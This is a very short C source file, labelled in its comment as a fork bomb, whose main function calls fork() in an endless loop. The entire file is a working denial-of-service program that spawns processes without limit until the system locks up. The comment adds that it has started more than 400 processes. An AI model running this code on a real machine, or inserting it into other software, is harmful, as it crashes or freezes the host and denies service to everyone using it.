/* A fork bomb. Says: has started more than 400 processes */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
